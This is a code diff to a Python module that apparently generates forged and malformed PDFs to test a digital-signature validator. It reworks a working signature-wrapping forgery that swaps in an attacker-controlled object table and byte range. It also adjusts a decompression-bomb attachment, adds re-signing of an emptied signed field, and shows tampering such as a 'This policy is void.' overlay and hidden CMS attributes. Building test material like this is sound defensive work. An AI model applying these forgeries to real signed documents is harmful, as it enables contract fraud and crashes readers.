@@ -12,7 +12,7 @@ import zlib
 from collections.abc import Callable
 from dataclasses import dataclass
 
-from asn1crypto import cms
+from asn1crypto import cms, core
 from pyhanko.pdf_utils import generic
 from pyhanko.pdf_utils.generic import (
     ArrayObject,
@@ -134,13 +134,13 @@ def _next_field(writer: Writer) -> DictionaryObject:
     return next((each for each in fields if "/V" not in each), fields[-1])
 
 
-def _annotate(writer: Writer, annotation: DictionaryObject, number: int = -1) -> None:
+def _annotate(writer: Writer, annotation: DictionaryObject, number: int = -1) -> IndirectObject:
     reference = writer.add_object(annotation)
     annotation[pdf_name("/P")] = _page_reference(writer, number)
-    writer.update_container(annotation)
     annotations = _page(writer, number)["/Annots"]
     annotations.append(reference)
     writer.update_container(annotations)
+    return reference
 
 
 def _drawing(writer: Writer, words: str, size: tuple[int, int]) -> IndirectObject:
@@ -290,9 +290,8 @@ def add_text_field(writer: Writer) -> None:
     """A field with a text in it is put over a page."""
     field = _names(Type="/Annot", Subtype="/Widget", FT="/Tx", T="note", V="void", Rect=(60, 400, 460, 440))
     field[pdf_name("/AP")] = _names(N=_drawing(writer, "This policy is void.", (400, 40)))
-    _annotate(writer, field)
     fields = writer.root["/AcroForm"]["/Fields"]
-    fields.append(IndirectObject(field.container_ref.idnum, 0, writer))
+    fields.append(_annotate(writer, field))
     writer.update_container(fields)
 
 
@@ -328,6 +327,13 @@ def take_signature_out(writer: Writer) -> None:
     writer.update_container(field)
 
 
+def empty_signed_field(writer: Writer) -> None:
+    """The field that was signed last is empty again, for another signature in it."""
+    field = _last_signed(writer)
+    del field["/V"]
+    writer.update_container(field)
+
+
 @_update(Reason.ALTERED)
 def lock_next_field(writer: Writer) -> None:
     """The next one to sign finds a field that cannot be signed."""
@@ -358,9 +364,8 @@ def add_scripted_field(writer: Writer) -> None:
 
 def _add_signature_field(writer: Writer, box: tuple[int, ...], **more: object) -> None:
     field = _names(Type="/Annot", Subtype="/Widget", FT="/Sig", T="more", Rect=box, F=4, **more)
-    _annotate(writer, field, 0)
     fields = writer.root["/AcroForm"]["/Fields"]
-    fields.append(IndirectObject(field.container_ref.idnum, 0, writer))
+    fields.append(_annotate(writer, field, 0))
     writer.update_container(fields)
 
 
@@ -583,9 +588,9 @@ def _font_file(font: DictionaryObject) -> str:
 
 @_update(Reason.UNREADABLE)
 def attach_bomb(writer: Writer) -> None:
-    """An attachment of half a megabyte that is 512 MB when it is unpacked."""
+    """An attachment of 300 kB that is 300 MB when it is unpacked."""
     packer = zlib.compressobj(9)
-    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(512)) + packer.flush()
+    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(300)) + packer.flush()
     stream = StreamObject(_names(Type="/EmbeddedFile", Filter="/FlateDecode"), encoded_data=packed)
     specification = _names(Type="/Filespec", F="b", UF="b", EF=_names(F=writer.add_object(stream)))
     writer.root["/AF"].append(writer.add_object(specification))
@@ -705,17 +710,32 @@ def byte_range(data: bytes) -> tuple[int, int, int, int]:
     return first, second, third, fourth
 
 
-@_forgery(Reason.ALTERED)
-def move_byte_range(data: bytes) -> bytes:
-    """Room is made behind the signature, for other objects, and the byte range leaves it out (SWA)."""
+@_forgery(Reason.FORGED)
+def wrap_signature(data: bytes) -> bytes:
+    """What was signed is left as it was, but its second half is moved back; in between stand other objects (SWA).
+
+    The table of objects that the end of the PDF leads to is the attacker's, and so is the signature's dictionary: it has
+    the same signature and another byte range.
+    """
     _, first, second, length = byte_range(data)
-    room = b"22 0 obj\n<</Length 0>>\nstream\n\nendstream\nendobj\n"
-    old = re.findall(rb"/ByteRange\s*\[[^]]*\]", data)[-1]
-    new = b"/ByteRange [0 %d %d %d]" % (first, second + len(room), length)
-    assert len(new) <= len(old)
-    forged = data[:first] + data[first:second] + room + data[second:]
-    at = forged.rindex(old)
-    return forged[:at] + new.ljust(len(old)) + forged[at + len(old) :]
+    number = int(re.findall(rb"(\d+) 0 obj\b", data[:first])[-1])
+    start = data.rindex(b"%d 0 obj" % number, 0, first)
+    table = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
+    end = data.index(b"endobj", second) + 6
+
+    def wrap(room: int) -> bytes:
+        old = re.findall(rb"/ByteRange\s*\[[^]]*\]", data[start:end])[-1]
+        new = b"/ByteRange [0 %d %d %d]" % (first, second + room, length)
+        copy = data[start:end].replace(old, new.ljust(len(old)))
+        page = b"22 0 obj\n<</Length 0>>\nstream\n\nendstream\nendobj\n".ljust(60)
+        entries = data[table : data.index(b"trailer", table)].replace(b"%010d" % start, b"%010d" % (at + 60))
+        trailer = data[data.index(b"trailer", table) : data.index(b"startxref", table)]
+        body = entries + b"22 1\n%010d 00000 n \n" % at + trailer
+        return data[second:table] + body.ljust(at - table) + page + copy + b"\n"
+
+    at = table + 1000
+    room = wrap(len(wrap(0)))
+    return data[:second] + room + data[second:]
 
 
 @_forgery(Reason.FORGED)
@@ -740,7 +760,7 @@ def hide_in_unsigned_attributes(data: bytes) -> bytes:
 
 def _add_attribute(content: cms.ContentInfo) -> None:
     info = content["content"]["signer_infos"][0]
-    hidden = cms.CMSAttribute({"type": "1.2.3.4.5", "values": [cms.core.OctetString(b"hidden")]})
+    hidden = cms.CMSAttribute({"type": "1.2.3.4.5", "values": [core.OctetString(b"hidden")]})
     info["unsigned_attrs"] = cms.CMSAttributes([*(info["unsigned_attrs"] or ()), hidden])
 
 
@@ -820,7 +840,7 @@ def cut_off(data: bytes) -> bytes:
     return data[: len(data) - 5000]
 
 
-@_forgery(Reason.FORGED)
+@_forgery(Reason.UNREADABLE)
 def add_hybrid_table(data: bytes) -> bytes:
     """A second table of objects, for newer readers, that says something else than the first (hybrid references)."""
     old = data.rindex(b"trailer")
